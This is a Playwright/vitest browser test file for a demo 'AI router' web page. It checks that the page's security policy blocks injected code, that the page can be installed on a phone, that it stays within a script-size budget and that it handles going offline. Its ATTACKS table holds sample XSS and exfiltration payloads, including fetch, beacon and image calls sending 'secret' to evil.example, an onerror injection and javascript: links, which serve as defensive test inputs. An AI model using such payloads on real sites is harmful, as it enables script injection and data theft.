/** The demo's page as a browser sees it: what its policy blocks, what a phone needs to install it, and how much it loads. */
import { gzipSync } from 'node:zlib';
import type { BrowserContext } from 'playwright-core';
import { afterAll, afterEach, expect, onTestFinished, test } from 'vitest';
import { until } from '../support/until.ts';
import { openProfile } from './support/browser.ts';
import { startDemoBench } from './support/demo-bench.ts';
import { untilServed, wifi } from './support/demo-page.ts';
import { type WatchedPage, watchedPage } from './support/watched-page.ts';

const demo = await startDemoBench();
afterEach(() => demo.reset());
afterAll(() => demo.stop());

declare global {
  var ran: string[];
}

async function open(context: BrowserContext): Promise<WatchedPage> {
  await context.addInitScript(() => {
    globalThis.ran = [];
  });
  const watched = await watchedPage(context);
  const { page } = watched;
  await page.goto(`${demo.line.origin}/`);
  await untilServed(page);
  return watched;
}

test('the page itself does nothing that its policy stops, and says nothing on the console, on either visit', async () => {
  const context = await demo.newContext();
  for (const visit of ['first', 'second']) {
    const { page, said, stopped } = await open(context);
    await page.waitForLoadState('networkidle');
    expect([visit, await stopped(), said]).toEqual([visit, [], []]);
    await page.close();
  }
});

/** Each of them would add a word to `ran`. */
const ATTACKS: Record<string, string> = {
  'an inline script': `const s = document.createElement('script'); s.append('ran.push("inline")'); document.head.append(s); if (ran.length === 0) throw 'stopped';`,
  'a script with text': `document.createElement('script').textContent = 'ran.push("text")';`,
  'a script of another host': `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s);`,
  'a script as data': `import('data:text/javascript,ran.push("data")').catch(() => {});`,
  eval: `(0, eval)('ran.push("eval")');`,
  'a function from text': `new Function('ran.push("function")')();`,
  'a timer with text': `setTimeout('ran.push("timer")');`,
  innerHTML: `document.body.innerHTML = '<img src=x onerror="ran.push(1)">';`,
  'a document from text': `document.write('<script>ran.push("write")</' + 'script>');`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<b onclick="ran.push(1)">');`,
  'a handler as text': `const b = document.createElement('b'); b.setAttribute('onclick', 'ran.push("handler")'); document.body.append(b); b.click();`,
  'a link that is a script': `const a = document.createElement('a'); a.href = 'javascript:ran.push("link")'; document.body.append(a); a.click();`,
  'a frame': `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f);`,
  'a frame from text': `document.createElement('iframe').srcdoc = '<script>parent.ran.push("srcdoc")</' + 'script>';`,
  'a call of another host': `fetch('https://evil.example/?secret').catch(() => {});`,
  'a beacon': `navigator.sendBeacon('https://evil.example/', 'secret');`,
  'a picture of another host': `new Image().src = 'https://evil.example/?secret';`,
  'a style of another host': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css'; document.head.append(l);`,
  'a style element': `const s = document.createElement('style'); s.append('body { display: none }'); document.head.append(s);`,
  'a form': `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit();`,
  'another base': `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);`,
  'another worker': `return navigator.serviceWorker.register('/sw.js');`,
  'a worker from text': `new Worker(URL.createObjectURL(new Blob(['1'])));`,
  'another policy': `trustedTypes.createPolicy('mine', { createHTML: (text) => text }).createHTML('');`,
};

test('nothing that is not the page’s own runs, loads or leaves', async () => {
  const { page } = await open(await demo.newContext());
  const address = page.url();
  for (const [attack, code] of Object.entries(ATTACKS)) {
    // The debugger may do things that the page may not, so the attack comes from a task of the page itself.
    const isStopped = await page.evaluate(async (text) => {
      const before = violations.length;
      const run = new Function(text);
      const isRefused = await new Promise((resolve) => {
        setTimeout(async () => {
          try {
            await run();
            resolve(false);
          } catch {
            resolve(true);
          }
        });
      });
      for (let turns = 0; turns < 100 && violations.length === before; turns++)
        await new Promise((resolve) => setTimeout(resolve));
      return isRefused || violations.length > before;
    }, code);
    expect([attack, isStopped, await page.evaluate(() => ran)]).toEqual([attack, true, []]);
    expect(page.url()).toBe(address);
  }
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
});

test('a phone may install it: manifest, icons of the sizes they name, colours', async () => {
  // A private window cannot install.
  const profile = await openProfile();
  onTestFinished(() => profile.close());
  const { page } = await open(await demo.adopt(profile.context));
  const session = await page.context().newCDPSession(page);
  const { url, data = '', errors } = await session.send('Page.getAppManifest');
  expect([url, errors]).toEqual([`${demo.line.origin}/manifest.webmanifest`, []]);
  expect((await session.send('Page.getInstallabilityErrors')).installabilityErrors).toEqual([]);
  const manifest = JSON.parse(data) as { start_url: string; icons: Record<string, string>[]; theme_color: string };
  expect(new URL(manifest.start_url, url).href).toBe(`${demo.line.origin}/`);
  const icons = manifest.icons.filter(({ type }) => type === 'image/png');
  expect(icons.map(({ sizes, purpose = 'any' }) => `${sizes} ${purpose}`).sort()).toEqual([
    ...['192x192 any', '192x192 maskable', '512x512 any', '512x512 maskable'],
  ]);
  for (const { src = '', sizes } of icons) {
    const png = Buffer.from(await (await fetch(new URL(src, `${demo.routerUrl}/`))).arrayBuffer());
    expect(`${png.readUInt32BE(16)}x${png.readUInt32BE(20)}`, src).toBe(sizes);
  }
  for (const [scheme, colour] of [
    ['light', '#fbfaf7'],
    ['dark', '#14161a'],
  ] as const) {
    const meta = page.locator(`meta[name="theme-color"][media*="${scheme}"]`);
    expect(await meta.getAttribute('content')).toBe(colour);
  }
  expect(await page.locator('html').getAttribute('lang')).toMatch(/^(?:en|de)/);
});

test('without JavaScript the page says what this is, and how to ask', async () => {
  const context = await demo.newContext({ javaScriptEnabled: false });
  const page = await demo.open(context);
  expect(await page.locator('noscript').textContent()).toMatch(/an AI router.*needs JavaScript.*curl .*\/ai/s);
});

/** All scripts that are loaded before anything is pressed: the page's own, and what they import in turn. */
test('the first load is at most 60 KB of JavaScript, gzipped', async () => {
  const text = async (path: string) => (await fetch(`${demo.routerUrl}${path}`)).text();
  const html = await text('/');
  const found = new Set([...html.matchAll(/(?:src|href)="\.?(\/[^"]+\.js)"/g)].map(([, path = '']) => path));
  const named = found.size;
  let bytes = 0;
  for (const path of found) {
    const script = await text(path);
    bytes += gzipSync(script).byteLength;
    for (const [, name = ''] of script.matchAll(/(?:import|from)\s*["'](\.?\/[^"']+\.js)["']/g))
      found.add(new URL(name, `http://any${path}`).pathname);
  }
  expect([...found].filter((path) => path === '/travel.js')).toEqual(['/travel.js']);
  // The page names them all, so that none waits for another; its settings load in parallel.
  expect(found.size).toBe(named);
  expect(html).toContain('rel="preload" href="./demo/settings"');
  expect(bytes).toBeLessThanOrEqual(60_000);
});

test('nothing is asked of another host, and everything by a relative address', async () => {
  const context = await demo.newContext();
  const asked: string[] = [];
  context.on('request', (request) => asked.push(new URL(request.url()).origin));
  const { page } = await open(context);
  await page.waitForLoadState('networkidle');
  expect(new Set(asked)).toEqual(new Set([demo.line.origin]));
  const html = await (await fetch(`${demo.routerUrl}/`)).text();
  expect([...html.matchAll(/(?:src|href)="([^"]+)"/g)].filter(([, address = '']) => !address.startsWith('./'))).toEqual(
    [],
  );
});

test('the page sees no network while the Wi-Fi is pulled in another tab', async () => {
  const context = await demo.newContext();
  const { page } = await open(context);
  await page.evaluate(() => {
    for (const name of ['offline', 'online']) addEventListener(name, () => ran.push(name));
  });
  const other = await context.newPage();
  await other.goto(`${demo.line.origin}/page`);
  await untilServed(other);
  await wifi(other, true);
  await until('the page sees none', () => page.evaluate(() => !navigator.onLine));
  await page.reload();
  await until('the reloaded page sees none', () => page.evaluate(() => !navigator.onLine));
  await page.evaluate(() => addEventListener('online', () => ran.push('online')));
  await wifi(other, false);
  await until('the page sees it again', () => page.evaluate(() => navigator.onLine));
  expect(await page.evaluate(() => ran)).toEqual(['online']);
});
